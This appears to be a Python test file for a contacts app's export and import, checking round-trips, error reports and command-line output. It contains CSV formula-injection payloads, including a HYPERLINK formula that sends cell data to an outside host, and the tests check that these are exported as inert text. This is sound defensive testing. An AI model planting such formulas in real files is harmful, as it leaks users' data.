"""Exporting: what is exported can be imported again, here without a change and elsewhere to the same contacts."""

import csv
import tracemalloc
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.commands.exports import ExportOrder, export_file
from app.files.exchange import escaped, joined, split_entries, unescaped
from app.files.exporting.formats import Format
from app.running.services import open_services
from app.settings import Settings
from models.engine.database import Database
from models.errors import BadInput
from models.ids import to_global_id
from models.text import fold
from resolvers.access.accounts import account
from resolvers.grouping.groups import create_group
from resolvers.operation.context import Context
from resolvers.records.contacts import create_contact, custom_fields_of, delete_contact
from resolvers.records.exports import PART, contacts_matching, exported
from resolvers.records.imports import import_contacts
from tests.support.callers import new_account
from tests.support.command_line import run
from tests.support.exports import CHOICES, OWNER, exporting

# ---------------------------------------------------------------- the law

NASTY = [
    "=1+1",
    "@x",
    "-",
    "+49 30 1",
    "'",
    "'=1",
    "\t=1",
    " a ",
    "a,b;c|d",
    'say "so"',
    "two\nlines",
    "\r\n",
    "\ufeffx",
    "NULL",
    "ä\u0308",
    "0",
    "\uff1d1",
]
TEXTS = st.none() | st.sampled_from(NASTY) | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=5)
EMAILS = st.none() | st.builds("{}@example.com".format, st.sampled_from(["ann", "Bob", "+eve", "=zoe", "'mia", "-tim"]))
DECIMALS = st.none() | st.decimals(-(10**10), 10**10, places=4).map(str)
DAYS = st.none() | st.dates(min_value=date(1, 1, 1)).map(str)
INSTANTS = st.none() | st.datetimes(timezones=st.just(UTC)).map(datetime.isoformat)
CUSTOM = st.fixed_dictionaries(
    {
        "plan": TEXTS,
        "email": TEXTS,
        "planName": DECIMALS,
        "plan_name": DAYS,
        "seenAt": INSTANTS,
        "paid": st.none() | st.booleans(),
        "color": st.none() | st.sampled_from(CHOICES),
        "tags": st.lists(st.sampled_from(CHOICES), unique=True),
    }
)
FIELDS = st.fixed_dictionaries(
    {
        "email": EMAILS,
        "first_name": TEXTS,
        "address": TEXTS,
        "phone": TEXTS,
        "country": st.none() | st.sampled_from(["Germany", "Atlantis"]),
        "score": st.none() | st.integers(-(2**31), 2**31 - 1),
        "spent": DECIMALS,
        "birthday": DAYS,
        "last_activity_at": INSTANTS,
        "custom_fields": CUSTOM,
    }
)
ENTRY = st.text(st.sampled_from('ab;|" \n=') | st.characters(exclude_categories=["Cs"]), max_size=6).map(str.strip).filter(bool)
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TAG = st.sampled_from(["Client", "a;b", "a|b", '"q"', "=1+1", "x, y", "'", "two\nlines", "1"])


@dataclass(frozen=True)
class Given:
    """A contact to be exported."""

    fields: Mapping[str, Any]
    tags: Sequence[str]
    is_owned: bool


CONTACTS = st.lists(
    st.builds(Given, FIELDS, st.lists(TAG, unique=True, max_size=4), st.booleans()),
    max_size=6,
    unique_by=lambda contact: fold(contact.fields["email"] or f"nobody {id(contact)}"),
)


async def _create(context: Context, contact: Given) -> None:
    (owner,) = await context.scope.users.filter(email=OWNER)
    fields = dict(contact.fields) | ({"owner_id": to_global_id("User", owner.id)} if contact.is_owned else {})
    await create_contact(context, fields=fields, tags=[{"name": tag} for tag in contact.tags], create_missing_tags=True)


async def _stored(context: Context) -> list[dict[str, Any]]:
    """Everything that is stored of the contacts, their taggings and custom values, and how far groups' logs have come."""
    scope = context.scope
    rows = await scope.contacts.order_by("id").values()
    rows += await scope.taggings.order_by("id").values()
    rows += await scope.custom_values.order_by("id").values()
    return rows + await scope.groups.order_by("id").values("id", "version", "position", "member_count")


async def _seen(context: Context) -> list[str]:
    """What people see of the contacts, whichever account they are in."""
    context.forget()
    found = []
    for contact in await context.scope.contacts.prefetch_related("owner"):
        own = {name: getattr(contact, name) for name in contact._meta.fields_db_projection if not name.endswith("_id") and name != "id"}
        values = {name: value for name, value in own.items() if name not in ("created_at", "updated_at")}
        tags = sorted(tag.name for tag in await context.loaders.tags_by_contact.load(contact.id))
        found.append(repr((values, contact.owner and contact.owner.email, await custom_fields_of(context, contact), tags)))
    return sorted(found)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(contacts=CONTACTS, suffix=st.sampled_from([".csv", ".jsonl"]))
async def test_what_is_exported_is_imported_here_without_a_change_and_elsewhere_as_it_was(
    database: Database, tmp_path: Path, *, contacts: list[Given], suffix: str
) -> None:
    async with exporting(database, tmp_path) as target:
        here, there = await target.new_account(), await target.new_account()
        await create_group(here, name="Known", criteria={"contacts": {"firstName": {"isEmpty": False}}})
        for contact in contacts:
            await _create(here, contact)
        before = await _stored(here)
        path = await target.export(here, suffix)
        if not contacts and suffix == ".jsonl":
            return  # there is nothing in the file, and an import says so
        again = await target.import_(here, path)
        assert (again.created, again.updated, again.unchanged, again.bad) == (0, 0, len(contacts), 0)
        assert await _stored(here) == before
        elsewhere = await target.import_(there, path)
        assert (elsewhere.created, elsewhere.updated, elsewhere.bad) == (len(contacts), 0, 0)
        assert await _seen(there) == await _seen(here)


@given(st.lists(ENTRY))
def test_entries_of_a_cell_come_apart_as_they_were_joined(entries: list[str]) -> None:
    assert split_entries(joined(entries)) == entries


@given(st.lists(st.sampled_from([text for text in map(str.strip, NASTY) if text]) | ENTRY, min_size=1))
def test_no_list_is_a_formula_and_neither_is_any_of_its_entries(entries: list[str]) -> None:
    assert split_entries(joined(entries)) == entries
    for cell in (joined(entries), *(joined([entry]) for entry in entries)):
        assert not cell.startswith(FORMULAS)


@given(st.text() | st.sampled_from(NASTY))
def test_no_text_is_a_formula_and_each_comes_back(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not escaped(text).startswith(("=", "@", "\t", "\r", "\uff1d"))


async def test_a_tag_that_would_run_in_a_spreadsheet_is_exported_as_text(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        await _create(here, Given({"email": "ann@example.com"}, ['=HYPERLINK("http://example.com/?"&C2,"x")'], is_owned=False))
        path = await target.export(here)
        with path.open(newline="") as stream:
            assert [row["tags"] for row in csv.DictReader(stream)] == ['"=HYPERLINK(""http://example.com/?""&C2,""x"")"']
        assert (await target.import_(here, path)).unchanged == 1


# ---------------------------------------------------------------- examples


async def test_ids_count_only_in_the_account_that_they_were_exported_from(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here, there = await target.new_account(), await target.new_account()
        await _create(here, Given({"email": "ann@example.com"}, [], is_owned=False))
        path = await target.export(here)
        path.write_text(path.read_text().replace("ann@", "anna@"))
        assert (await target.import_(here, path)).updated == 1
        assert [contact.email for contact in await here.scope.contacts] == ["anna@example.com"]
        assert (await target.import_(there, path)).created == 1
        assert [contact.email for contact in await here.scope.contacts] == ["anna@example.com"]


async def test_an_address_that_changes_hands_in_one_file_does_not_make_one_contact_of_two(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        await _create(here, Given({"email": "ann@example.com", "first_name": "Ann"}, [], is_owned=False))
        path = await target.export(here, ".jsonl")
        moved = path.read_text().replace("ann@", "anna@")
        path.write_text(f'{moved}{{"email": "ann@example.com", "firstName": "Another"}}\n')
        summaries = [await target.import_(here, path) for _ in range(2)]
        assert [(each.created, each.updated, each.unchanged, each.bad) for each in summaries] == [(0, 1, 0, 1), (1, 0, 1, 0)]
        assert sorted((contact.email, contact.first_name) for contact in await here.scope.contacts) == [
            ("ann@example.com", "Another"),
            ("anna@example.com", "Ann"),
        ]


async def test_a_contact_that_is_gone_comes_back_by_its_address_and_not_without_one(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        for fields in ({"email": "ann@example.com"}, {"first_name": "Bob"}):
            await _create(here, Given(fields, [], is_owned=False))
        path = await target.export(here)
        for contact in await here.scope.contacts:
            await delete_contact(here, to_global_id("Contact", contact.id))
        summary = await target.import_(here, path)
        assert (summary.created, summary.bad) == (1, 1)
        assert "no contact with this id any more" in path.with_name("people.errors.csv").read_text()
        summary = await target.import_(here, path, columns=["id=-"])
        assert (summary.created, summary.unchanged, summary.bad) == (1, 1, 0)


async def test_null_clears_and_what_is_absent_stays(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        custom = {"plan": "Gold", "paid": True}
        await _create(
            here, Given({"email": "ann@example.com", "first_name": "Ann", "city": "Oslo", "custom_fields": custom}, [], is_owned=True)
        )
        path = tmp_path / "people.jsonl"
        path.write_bytes(orjson.dumps({"Mail": "ANN@example.com", "First name": None, "ownerEmail": None, "customFields": {"paid": None}}))
        assert (await target.import_(here, path)).updated == 1
        (ann,) = await here.scope.contacts
        assert [ann.first_name, ann.city, ann.owner_id] == [None, "Oslo", None]
        assert await custom_fields_of(here, ann) == {"plan": "Gold"}


async def test_bad_lines_of_objects_are_told_of_and_can_be_mended(database: Database, tmp_path: Path) -> None:
    lines = ['{"email": "ann@example.com", "score": "many"}', "[]", '{"email": "bob@example.com"', '{"customFields": 1}', "", "{}"]
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        path = tmp_path / "people.jsonl"
        path.write_text(
            "\n".join(
                [
                    *lines,
                    '{"email": "eve@example.com", "tags": ["A;B"], "ownerEmail": "nobody@example.com"}',
                    '{"email": "zoe@example.com", "tags": [1]}',
                ]
            )
        )
        assert (await target.import_(here, path)).bad == 6
        told = [orjson.loads(line) for line in path.with_name("people.errors.jsonl").read_bytes().splitlines()]
        assert [row["error line"] for row in told] == [1, 2, 3, 4, 7, 8]
        reasons = {row["error line"]: row["error reason"] for row in told}
        assert reasons[1].startswith("score: Expected a whole number")
        assert reasons[2] == "The line is not a JSON object."
        assert reasons[3].startswith("The line is not JSON in UTF-8: ")
        assert reasons[4] == "The value of customFields is not a JSON object."
        assert reasons[8] == "tags: Expected a list of names."
        assert reasons[7] == "ownerEmail: There is no such user in the account."
        mended = tmp_path / "mended.jsonl"
        mended.write_bytes(orjson.dumps(next(row for row in told if row["error line"] == 7) | {"ownerEmail": OWNER}))
        assert (await target.import_(here, mended)).created == 1
        assert [tag.name for tag in await here.scope.tags] == ["A;B"]


async def test_contacts_with_more_tags_than_a_call_may_name_come_back(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here, there = await target.new_account(), await target.new_account()
        for start in (0, 80):
            rows = [
                {
                    "fields": {"email": "ann@example.com"},
                    "tags": [{"name": f"T{start + n}"} for n in range(80)],
                    "create_missing_tags": True,
                }
            ]
            await import_contacts(here, rows=rows)
        assert (await target.import_(there, await target.export(here))).created == 1
        assert await there.scope.taggings.count() == 160


async def test_a_group_or_criteria_say_whom(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        for name, country in (("ann", "Canada"), ("bob", "Peru"), ("eve", "Canada")):
            await _create(here, Given({"email": f"{name}@example.com", "country": country}, [], is_owned=False))
        canada = {"country": {"equals": ["Canada"]}}
        group = await create_group(here, name="Canadians", criteria={"contacts": canada})
        said: list[dict[str, Any]] = [
            {"group": "canadians"},
            {"group": to_global_id("Group", group.id)},
            {"where": orjson.dumps(canada).decode()},
        ]
        for options in said:
            with (await target.export(here, **options)).open(newline="") as stream:
                assert [row["email"] for row in csv.DictReader(stream)] == ["ann@example.com", "eve@example.com"]


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"group": "Nobody"}, "There is no group named Nobody"),
        ({"group": "Twice"}, "There are 2 groups named Twice. Give --group the id"),
        ({"group": "Meetings"}, "one of appointments"),
        ({"where": "{"}, "--where is not JSON"),
        ({"where": "[]"}, "--where takes an object"),
        ({"where": '{"country": {"equal": ["Canada"]}}'}, "`where.country`: `equal` does not belong here"),
        ({"where": "{}", "group": "Twice"}, "not both"),
    ],
    ids=["unknown", "ambiguous", "appointments", "syntax", "list", "criteria", "both"],
)
async def test_what_cannot_be_exported_is_told_and_leaves_no_file(
    database: Database, tmp_path: Path, options: dict[str, str], said: str
) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        for _ in range(2):
            await create_group(here, name="Twice", criteria={"contacts": {"email": {"isEmpty": False}}})
        await create_group(here, name="Meetings", criteria={"appointments": {"title": {"isEmpty": False}}})
        with pytest.raises(BadInput, match=said):
            await target.export(here, **options)
        assert not [path for path in tmp_path.iterdir() if "people" in path.name]


async def test_a_file_is_only_overwritten_when_asked_to_and_never_half(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()
        name, path = (await account(here)).name, tmp_path / "people.csv"
        path.write_text("precious")
        with pytest.raises(BadInput, match="already"):
            await export_file(target.services, ExportOrder(path, name))
        with pytest.raises(BadInput, match="not a file that can be replaced"):
            await export_file(target.services, ExportOrder(tmp_path, name, format=Format.CSV, force=True))
        with pytest.raises(BadInput, match="does not show the format"):
            await export_file(target.services, ExportOrder(tmp_path / "people.txt", name))
        assert path.read_text() == "precious"
        await export_file(target.services, ExportOrder(path, name, force=True))
        assert path.read_text().startswith("id,musterAccount,email,firstName,")


async def test_an_account_of_any_size_is_exported_in_the_same_memory(database: Database, tmp_path: Path) -> None:
    async with exporting(database, tmp_path) as target:
        here = await target.new_account()

        async def peak() -> int:
            source = await contacts_matching(here, None)
            tracemalloc.start()
            count = sum([len(part) async for part in exported(here, source, [])])
            _, found = tracemalloc.get_traced_memory()
            tracemalloc.stop()
            assert count == await here.scope.contacts.count()
            return found

        for start in (0, 1000):
            await import_contacts(here, rows=[{"fields": {"email": f"p{start + n}@example.com"}} for n in range(PART)])
        first = await peak()
        for start in (2000, 3000, 4000, 5000):
            await import_contacts(here, rows=[{"fields": {"email": f"p{start + n}@example.com"}} for n in range(PART)])
        assert await peak() < first * 1.5


# ---------------------------------------------------------------- the program


async def test_the_program_writes_to_a_file_and_to_standard_output(url: str, tmp_path: Path) -> None:
    async with open_services(Settings(database_url=url)) as services:
        await create_contact(await new_account(services), fields={"email": "ann@example.com", "first_name": "Ann"})
    path = tmp_path / "out.jsonl"
    ran = await run(url, "export", path)
    assert (ran.code, ran.output, ran.errors) == (0, "Exported 1 contact.\n", "")
    assert orjson.loads(path.read_bytes())["firstName"] == "Ann"
    piped = await run(url, "export", "-")
    assert piped.errors == "Exported 1 contact.\n"
    assert piped.output.splitlines()[1].split(",")[2:4] == ["ann@example.com", "Ann"]
    again = await run(url, "export", path)
    assert again.code == 1
    assert again.sentence.endswith("Name another one, or overwrite it with --force.")
